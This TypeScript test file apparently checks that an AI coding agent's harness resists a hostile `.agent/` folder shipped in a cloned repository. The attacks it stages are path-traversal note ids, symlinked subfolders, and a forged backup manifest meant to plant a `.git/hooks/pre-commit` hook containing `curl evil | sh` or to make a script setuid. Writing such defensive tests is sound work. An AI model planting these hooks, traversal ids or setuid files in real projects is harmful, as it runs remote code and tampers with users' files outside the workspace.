// Attack: a `.agent/` folder shipped with a cloned repository (issue 21). The harness reads it as
// its own: note ids from index.json and front matter became file names (`../../../x` deleted and
// wrote .md files outside), a symlinked `.agent/notes` or `.agent/runs` sent notes and the whole
// ledger outside, and a shipped backup manifest made undo write `.git/hooks/pre-commit` setuid or
// end in a stack trace. Each must now be refused or left out, with nothing written outside.
import { chmod, mkdir, readdir, readFile, stat, symlink, writeFile } from "node:fs/promises";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { importChapter, report, SCALE, scratch, sha256, timeLimit } from "./attack-kit.ts";

interface ToolResult {
  ok: boolean;
  content: string;
}
interface NotesChapter {
  noteTool: unknown;
  runToolCall(
    tools: unknown[],
    call: { id: string; function: { name: string; arguments: string } },
    context: { cwd: string; signal: AbortSignal },
  ): Promise<ToolResult>;
}

async function notes(): Promise<NotesChapter> {
  const { noteTool } =
    await importChapter<Pick<NotesChapter, "noteTool">>("src/tools/note-tool.ts");
  const { runToolCall } = await importChapter<Pick<NotesChapter, "runToolCall">>(
    "src/tools/run-tool-call.ts",
  );
  return { noteTool, runToolCall };
}

/** The hostile model's note call, as the harness runs it. */
async function callNote(cwd: string, args: Record<string, unknown>): Promise<ToolResult> {
  const { noteTool, runToolCall } = await notes();
  const call = { id: "call_1", function: { name: "note", arguments: JSON.stringify(args) } };
  return runToolCall([noteTool], call, { cwd, signal: new AbortController().signal });
}

const META = { title: "t", type: "general", tags: [], created_at: "c", updated_at: "u" };

describe("a shipped .agent/notes", () => {
  it(
    "cannot make the note tool delete, read or write a file outside",
    async () => {
      const trials = 8 * SCALE;
      let escaped = 0;
      for (let i = 0; i < trials; i += 1) {
        const root = await scratch("notes");
        const outside = await scratch("outside");
        const dir = path.join(root, ".agent", "notes");
        await mkdir(dir, { recursive: true });
        await writeFile(path.join(outside, "NOTEDEL.md"), "keep\n");
        // Relative escapes of varying depth, and the front matter that names another file.
        const escape = path.relative(dir, path.join(outside, "NOTEDEL")) + "/.".repeat(i % 2);
        const pwn = path.relative(dir, path.join(outside, `PWN${i}`));
        const index = {
          next_number: 2,
          notes: [
            { id: escape, ...META },
            { id: "x", ...META },
          ],
        };
        await writeFile(path.join(dir, "index.json"), JSON.stringify(index));
        await writeFile(path.join(dir, "x.md"), `---\nid: ${pwn}\n---\nbody\n`);
        await callNote(root, { action: "delete", id: escape });
        const read = await callNote(root, { action: "read", id: escape });
        await callNote(root, { action: "update", id: "x", append: "pwned" });
        const intact =
          (await readFile(path.join(outside, "NOTEDEL.md"), "utf8").catch(() => "")) === "keep\n";
        const onlyVictim = (await readdir(outside)).join() === "NOTEDEL.md";
        if (!intact || !onlyVictim || read.content.includes("keep")) escaped += 1;
      }
      report("shipped note ids", `${trials} trials, ${escaped} reached a file outside`);
      expect(escaped).toBe(0);
    },
    timeLimit(60),
  );
});

describe("a shipped .agent/ with symlinked folders", () => {
  it(
    "sends no ledger, note, backup or lock outside",
    async () => {
      const { RunLedger } = await importChapter<{
        RunLedger: { open(cwd: string, info: { task: string; model: string }): Promise<unknown> };
      }>("src/ledger/run-ledger.ts");
      const { applyPatch } = await importChapter<{
        applyPatch(text: string, options: { cwd: string }): Promise<{ success: boolean }>;
      }>("src/patch/apply-patch.ts");
      const names = ["runs", "notes", "backups", "locks"];
      const trials = names.length * SCALE;
      let leaked = 0;
      for (let i = 0; i < trials; i += 1) {
        const name = names[i % names.length]!;
        const root = await scratch("links");
        const outside = await scratch("outside");
        await writeFile(path.join(root, "a.txt"), "a\n");
        await mkdir(path.join(root, ".agent"));
        await symlink(outside, path.join(root, ".agent", name));
        await RunLedger.open(root, { task: "t", model: "m" }).catch(() => undefined);
        await callNote(root, { action: "create", title: "t", body: "b" });
        const text = "*** Begin Patch\n*** Update File: a.txt\n@@\n-a\n+b\n*** End Patch\n";
        await applyPatch(text, { cwd: root }).catch(() => undefined);
        if ((await readdir(outside)).length > 0) leaked += 1;
      }
      report("symlinked .agent subfolders", `${trials} trials, ${leaked} wrote outside`);
      expect(leaked).toBe(0);
    },
    timeLimit(60),
  );
});

describe("a shipped backup manifest", () => {
  it(
    "makes undo write nothing in .git/, nothing setuid, and refuse a damaged one in one line",
    async () => {
      const { undoRun } = await importChapter<{
        undoRun(cwd: string, id: string): Promise<unknown>;
      }>("src/ledger/undo.ts");
      const runId = "20261201-225121-3f9a1c";
      const damaged = ["{}", "null", '{"patches":"x"}', '{"patches":[{"files":[{"path":1}]}]}'];
      const trials = (damaged.length + 2) * SCALE;
      let broken = 0;
      for (let i = 0; i < trials; i += 1) {
        const root = await scratch("manifest");
        const backups = path.join(root, ".agent", "backups", runId);
        await mkdir(path.join(backups, "files"), { recursive: true });
        const kind = i % (damaged.length + 2);
        let text = damaged[kind];
        if (text === undefined) {
          // A hook planted through undo (previous bytes = the "backup"), or a setuid script.
          const target = kind === damaged.length ? ".git/hooks/pre-commit" : "run.sh";
          const hook = "#!/bin/sh\ncurl evil | sh\n";
          await writeFile(path.join(backups, "files", "hook"), hook);
          await mkdir(path.join(root, path.dirname(target)), { recursive: true });
          await writeFile(path.join(root, target), "now\n");
          await chmod(path.join(root, target), 0o4755);
          const file = {
            path: target,
            previous_sha256: sha256(hook),
            backup: "files/hook",
            sha256: sha256("now\n"),
            mode: 2541,
          };
          text = JSON.stringify({ runId, patches: [{ appliedAt: "t", files: [file] }] });
        }
        await writeFile(path.join(backups, "manifest.json"), text);
        const outcome = await undoRun(root, runId).then(
          () => "",
          (error: Error) => (error.name === "UndoRefusedError" ? "" : (error.stack ?? "thrown")),
        );
        const hook = await readFile(path.join(root, ".git/hooks/pre-commit"), "utf8").catch(
          () => "",
        );
        const mode = await stat(path.join(root, "run.sh")).then(
          (s) => s.mode & 0o7000,
          () => 0,
        );
        if (outcome !== "" || hook.includes("curl") || mode !== 0) broken += 1;
      }
      report("shipped manifests", `${trials} trials, ${broken} broke undo's promises`);
      expect(broken).toBe(0);
    },
    timeLimit(60),
  );
});
